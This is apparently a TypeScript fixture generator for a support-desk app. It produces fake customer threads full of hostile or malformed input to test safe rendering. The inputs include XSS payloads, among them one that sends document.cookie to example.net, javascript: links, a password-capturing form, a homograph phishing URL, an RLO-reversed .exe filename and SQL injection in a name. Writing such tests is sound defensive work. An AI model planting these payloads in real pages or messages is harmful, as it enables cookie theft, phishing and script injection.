import type { TicketCategory } from '../../../contract/wire/entities.ts';
import { between, pick, type Random } from '../random.ts';
import type { WholeThread } from './endless.ts';
import type { Step } from './play.ts';

/** A message that tries to be more than text, and the talk around it. */
interface HostileThread {
  category: TicketCategory;
  tags: readonly string[];
  subject: string;
  first: string;
  answer: string;
  reply: string;
}

const zalgo = (text: string): string =>
  [...text].map((c, i) => `${c}${'\u0335\u0321\u0347\u0308\u0310'.slice(0, 1 + (i % 5))}`).join('');
const logLine = (n: number): string =>
  `t=${1_763_000_000 + n * 7} lvl=debug mod=stream seq=${n} sym=EURUSD ` +
  `bid=1.0${(4_211 + n) % 10_000} ask=1.0${(4_213 + n) % 10_000} `;
/** One line of about 60,000 characters, as a client without line breaks pastes it. */
const longLine = (): string => Array.from({ length: 800 }, (_, n) => logLine(n)).join('');

const threads: readonly HostileThread[] = [
  {
    category: 'technical',
    tags: ['security', 'report'],
    subject: 'Responsible disclosure: <script>alert(1)</script> in the nickname field',
    first:
      'I test sites for a living. Your nickname field takes ' +
      '<script>alert(document.domain)</script> and <img src=x ' +
      'onerror="fetch(\'https://example.net/c?\'+document.cookie)"> without a word. Where ' +
      'do I send the report?',
    answer:
      'Thank you for telling us first. The field takes it as text, but you are right that ' +
      'it should say so. Please send the report here on the ticket.',
    reply:
      'Here it is. Also try <svg/onload=alert(1)>, <details open ontoggle=alert(1)> and ' +
      '"><script src=https://example.net/x.js></script> while you are at it.',
  },
  {
    category: 'account',
    tags: ['security'],
    subject: 'Mail with odd links in your name',
    first:
      'Somebody wrote to me as you. The links in it: javascript:alert(document.cookie) and ' +
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== and ' +
      'https://staffdesk.test@example.net/login. I did not click.',
    answer: 'That was not us, and you did well. Could you forward it with its headers?',
    reply:
      'Forwarded. The sign-in link shows as https://xn--staffdsk-e2a.example/ when I copy ' +
      'it, and as https://ѕtaffdesk.example/ in the mail.',
  },
  {
    category: 'other',
    tags: ['mail-client'],
    subject: 'Re: Fwd: your newsletter',
    first:
      '<base href="https://example.net/"><meta http-equiv="refresh" ' +
      'content="0;url=https://example.net/"><style>*{display:none}</style><p>Please take ' +
      'me off the list.</p>',
    answer:
      'Your mail program sent its code instead of the text, but I could read it: you are off the list.',
    reply: '<p>Thanks</p></div></body></html>',
  },
  {
    category: 'technical',
    tags: ['unicode'],
    subject: 'File name shows backwards',
    first:
      'The statement you sent is called \u202Efdp.tnemetats_2025\u202C.exe on my screen. Is it a PDF or a program?',
    answer:
      'It is not from us. A hidden character turns the name around; please delete it and do not open it.',
    reply:
      'Deleted. For your records, zero\u200Bwidth\u200Dspaces\u2060are in the sender\u200B as well.',
  },
  {
    category: 'trading',
    tags: ['unicode'],
    subject: `${zalgo('Chart')} is broken`,
    first: `${zalgo('Everything on my chart looks like this since the update')} and I cannot read the prices.`,
    answer: 'That looks like a font problem on your side. Does it happen in another browser?',
    reply: `No, only there. ${zalgo('But the labels stay so')}.`,
  },
  {
    category: 'technical',
    tags: ['log'],
    subject: 'Stream log as requested',
    first: `Here is the log that you asked for, sorry, it has no line breaks: ${longLine()}`,
    answer: 'Thank you, that is what we need. Next time a file is easier for both of us.',
    reply: 'Understood. Did you find seq=412? That is where it stops.',
  },
  {
    category: 'billing',
    tags: ['invoice'],
    subject: "Robert'); DROP TABLE invoices;--",
    first:
      'My name on the invoice is cut. It should be O\'Brien-"Bobby"; DROP TABLE ' +
      'invoices;-- (my parents had humour). Also 100% \\_ of the time the % sign is ' +
      'missing.',
    answer: 'A fine name. The invoice is reissued with all of it.',
    reply: 'Perfect, every character there.',
  },
  {
    category: 'account',
    tags: ['unbroken'],
    subject: `W${'o'.repeat(120)}w`,
    first:
      `My new reference is ${'A7f3Qx'.repeat(52)} and your form says it is too long. ` +
      `https://example.com/${'very-long-path-segment/'.repeat(16)}`,
    answer: 'The field takes 64 characters. Is there a shorter form of it?',
    reply: `There is: ${'A7f3Qx'.repeat(10)}.`,
  },
  {
    category: 'other',
    tags: ['emoji'],
    subject: '👩‍👩‍👧‍👦🏳️‍🌈 family account 👍🏽',
    first: '👨‍👩‍👧‍👦 We are four 🏴󠁧󠁢󠁳󠁣󠁴󠁿 and want one account 🙏🏿🙏🏿🙏🏿 is that possible?? ✨💸',
    answer: 'A joint account holds two people, but children can have junior accounts beside it.',
    reply: '🎉🎉🎉 thank you 👩🏾‍💻',
  },
  {
    category: 'technical',
    tags: ['markdown'],
    subject: '**URGENT** [click](javascript:alert(1)) `code`',
    first:
      '# Heading\n\n| a | b |\n|---|---|\n| <b>x</b> | ' +
      '![img](https://example.net/pixel.gif) |\n\n[Support](javascript:alert(1)) says ' +
      '{{constructor.constructor("alert(1)")()}} and ${7*7} in my template. What do I put ' +
      'there?',
    answer:
      'Our templates take plain names only, such as the one in the help page: https://example.com/help/templates',
    reply: 'OK: %s %n %x &lt;not a tag&gt; &amp;amp; works as text. Good.',
  },
  {
    category: 'funding',
    tags: ['rtl'],
    subject: 'Transfer to \u2067شركة النور\u2069 (ref \u202A#4471\u202C)',
    first:
      'The payee name mixes directions: \u2067شركة النور للتجارة\u2069 123 ' +
      '\u2066Ltd.\u2069 and the amount jumps to the wrong side: \u202B1,250.00 USD\u202C. ' +
      'Please check before it goes out.',
    answer:
      'I checked the raw data: the payee and 1,250.00 USD are right, only the screen mixes them.',
    reply: 'Good. \u200Fشكرا\u200E and thank you.',
  },
  {
    category: 'account',
    tags: ['autofill'],
    subject: 'Form filled itself with <form action=https://example.net>',
    first:
      'When I paste my address your form shows <form ' +
      'action="https://example.net/steal"><input name=password autofocus></form> and ' +
      '<iframe srcdoc="<script>top.location=1</script>"></iframe>. Is my computer infected?',
    answer:
      'Your clipboard manager seems to add it. Nothing of it runs here, but please check the computer.',
    reply: 'It was an extension. Removed. <marquee>All good</marquee>',
  },
];

/** A thread with texts that a careless window would run, follow or be broken by. */
export function hostileThread(random: Random, which: number): WholeThread {
  const thread = threads[which % threads.length] ?? pick(random, threads);
  const steps: Step[] = [
    { speaker: 'customer', kind: 'opening', template: thread.first },
    { speaker: 'agent', kind: 'beat', template: thread.answer },
    {
      speaker: 'note',
      kind: 'beat',
      template: pick(random, [
        'Shows as plain text here, nothing ran. @{mate} FYI.',
        `Case ${between(random, 20, 90)} for the collection. @{mate} for the security channel.`,
      ]),
    },
    { speaker: 'customer', kind: 'beat', template: thread.reply },
    {
      speaker: 'agent',
      kind: 'last',
      template: 'Thank you. Nothing else is needed from your side.',
    },
  ];
  return { category: thread.category, tags: thread.tags, subject: thread.subject, steps };
}
